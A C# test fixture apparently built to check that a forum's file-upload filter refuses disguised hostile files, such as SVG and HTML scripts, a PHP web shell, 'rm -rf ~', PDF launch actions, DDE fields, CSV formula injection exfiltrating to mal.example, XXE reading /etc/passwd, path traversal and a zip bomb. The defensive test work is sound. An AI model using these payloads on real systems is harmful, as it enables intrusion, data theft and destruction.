using System.Text;
using Forum.Tests.Pictures;

namespace Forum.Tests.Files;

/// <summary>Files that somebody might send to harm readers, the place or its machine, each under the name it would have. The reason it must be refused for; empty: it may be kept, made harmless.</summary>
internal static class Hostile
{
    public sealed record Case(string What, string Name, Func<byte[]> Bytes, string Refused)
    {
        public override string ToString() => What;
    }

    private const string Page = "<!DOCTYPE html><script>alert(document.cookie)</script>";
    private const string Svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>alert(1)</script></svg>";
    private const string Zip = "PK\u0005\u0006\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0";

    public static IReadOnlyList<Case> All { get; } =
    [
        new("a drawing with a script", "dessin.svg", () => Some.Bytes(Svg), "web_page"),
        new("a drawing that says it is a photo", "photo.png", () => Some.Bytes("<?xml version=\"1.0\"?>\n" + Svg), "web_page"),
        new("a page that says it is a text", "notes.txt", () => Some.Bytes("\n  " + Page), "web_page"),
        new("a page in UTF-16 that says it is a table", "liste.csv", () => [0xFF, 0xFE, .. Encoding.Unicode.GetBytes(Page)], "web_page"),
        new("a text that becomes a page further down", "notes.txt", () => Some.Bytes("Bonjour,\n\nvoici :\n<script src=//mal.example/x.js></script>"), "web_page"),
        new("a program for a server", "outil.txt", () => Some.Bytes("Bonjour <?php system($_GET['c']); ?>"), "web_page"),
        new("a Windows program that says it is a PDF", "rapport.pdf", () => Some.Bytes("MZ\u0090\0\u0003\0\0\0"), "program"),
        new("a Linux program that says it is a photo", "photo.jpg", () => Some.Bytes("\u007FELF\u0002\u0001\u0001"), "program"),
        new("a script with its interpreter", "lisezmoi.txt", () => Some.Bytes("#!/bin/sh\nrm -rf ~\n"), "program"),
        new("a batch of Windows", "lisezmoi.txt", () => Some.Bytes("@echo off\r\ndel /q *.*\r\n"), "web_page"),
        new("a Java archive that says it is a Word document", "plan.docx", () => Some.Zip(("META-INF/MANIFEST.MF", "Main-Class: Mal")), "unknown_kind"),
        new("a photo with a program behind it", "photo.jpg", () => [.. Sample.Jpeg(says: "Zibeline"), .. Some.Bytes("<?php system('id'); ?>" + Zip)], ""),
        new("a PNG with an archive behind it", "plan.png", () => [.. Sample.Png(), .. Some.Bytes("PK\u0003\u0004<script>alert(1)</script>" + Zip)], ""),
        new("a PNG of 30,000 by 30,000", "grand.png", () => Sample.Png(30_000, 30_000, 0), "too_large"),
        new("a PNG of 65,535 squared", "grand.png", () => Sample.Png(65_535, 65_535, 0), "too_large"),
        new("a PNG of 2,147,483,647 squared", "grand.png", () => Sample.Png(int.MaxValue, int.MaxValue, 0), "too_large"),
        new("a GIF of 65,535 squared", "grand.gif", () => Some.Gif(65_535, 65_535), "too_large"),
        new("a GIF that is a script", "anime.gif", () => Some.Bytes("GIF89a/*\0\0\0\0*/=1;alert(1)//"), "damaged"),
        new("a PDF with a script", "guide.pdf", () => Some.Pdf("3 0 obj\n<</S/JavaScript/JS(app.alert\\(1\\))>>\nendobj"), "active_pdf"),
        new("a PDF whose script has another spelling", "guide.pdf", () => Some.Pdf("3 0 obj\n<</S/J#61va#53cript/JS(x)>>\nendobj"), "active_pdf"),
        new("a PDF whose script is packed", "guide.pdf", () => Some.Pdf(Some.Packed("4 0 <</S/JavaScript/JS(x)>>")), "active_pdf"),
        new("a PDF that starts a program", "guide.pdf", () => Some.Pdf("3 0 obj\n<</S/Launch/F(cmd.exe)>>\nendobj"), "active_pdf"),
        new("a PDF with a file in it", "guide.pdf", () => Some.Pdf("3 0 obj\n<</Type/EmbeddedFile>>\nendobj"), "active_pdf"),
        new("a PDF whose form sends itself", "guide.pdf", () => Some.Pdf("3 0 obj\n<</S/SubmitForm/F(https://mal.example)>>\nendobj"), "active_pdf"),
        new("a locked PDF", "guide.pdf", () => Some.Pdf("3 0 obj\n<</Encrypt 4 0 R>>\nendobj"), "locked_pdf"),
        new("a PDF with an archive behind it", "guide.pdf", () => Some.Pdf(end: Zip), "two_kinds"),
        new("a PDF that is a page", "guide.pdf", () => Some.Bytes("%PDF-1.7\n<html><script>alert(1)</script></html>\n%%EOF"), "two_kinds"),
        new("a page before a PDF", "guide.pdf", () => [.. Some.Bytes(Page), .. Some.Pdf()], "web_page"),
        new("a Word document with macros", "plan.docx", () => Some.Docx(more: ("word/vbaProject.bin", "x")), "active_office"),
        new("a document of the kind with macros under another name", "plan.docx", () => Some.Docx(type: "wordprocessingml.document", more: ("word/more.xml", "<Types><Override ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>")), "active_office"),
        new("a Word document with a template from elsewhere", "plan.docx", () => Some.Docx(more: ("word/_rels/settings.xml.rels", Some.Relation("attachedTemplate", "https://mal.example/t.dotm"))), "fetches"),
        new("a Word document with an image from elsewhere", "plan.docx", () => Some.Docx(more: ("word/_rels/document.xml.rels", Some.Relation("image", "https://mal.example/pixel.png"))), "fetches"),
        new("a Word document that leads to another computer's share", "plan.docx", () => Some.Docx(more: ("word/_rels/document.xml.rels", Some.Relation("hyperlink", "file://mal.example/share"))), "fetches"),
        new("a Word document with a field that starts a program", "plan.docx", () => Some.Docx("<w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText></w:r>"), "fetches"),
        new("a Word document with another program's object", "plan.docx", () => Some.Docx(more: ("word/embeddings/oleObject1.bin", "x")), "active_office"),
        new("a Word document that climbs out of its folder", "plan.docx", () => Some.Docx(more: ("../../etc/cron.d/mal", "x")), "damaged"),
        new("a Word document that asks for a file of the server", "plan.docx", () => Some.Docx(more: ("word/more.xml", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>")), "damaged"),
        new("a Word document that becomes enormous", "plan.docx", () => Some.Docx(more: ("word/media/vide.txt", new string('0', 60_000_000))), "bomb"),
        new("an Excel workbook that asks another program", "budget.xlsx", () => Some.Xlsx(("xl/externalLinks/externalLink1.xml", "<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>")), "active_office"),
        new("an Excel workbook with another one behind it", "budget.xlsx", () => Some.Xlsx(("xl/externalLinks/_rels/externalLink1.xml.rels", Some.Relation("externalLinkPath", "file:///\\\\mal.example\\c.xlsx"))), "fetches"),
        new("a document with its password", "plan.docx", () => [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, 0, 0], "old_office"),
        new("an OpenDocument with a macro", "plan.odt", () => Some.OpenDocument(more: ("Basic/Standard/Module1.xml", "<x/>")), "active_office"),
        new("an OpenDocument with an image from elsewhere", "plan.odt", () => Some.OpenDocument(body: "<image xlink:href=\"https://mal.example/p.png\"/>"), "fetches"),
        new("a table with a formula that starts a program", "liste.csv", () => Some.Bytes("nom,note\nLuc,=cmd|' /C calc'!A0\n"), "formula"),
        new("a table with a formula that asks elsewhere", "liste.csv", () => Some.Bytes("nom;note\nLuc;\"=HYPERLINK(\"\"https://mal.example?x=\"\"&A1)\"\n"), "formula"),
        new("a sound that is a page", "balado.mp3", () => [.. Some.Bytes("ID3\u0004\0\0\0\0\0\u0010"), .. Some.Bytes(Page)], "damaged"),
        new("a film that says it is a sound", "balado.m4a", () => Some.M4a("vide"), "unknown_kind"),
        new("nothing", "vide.pdf", () => [], "empty"),
    ];
}
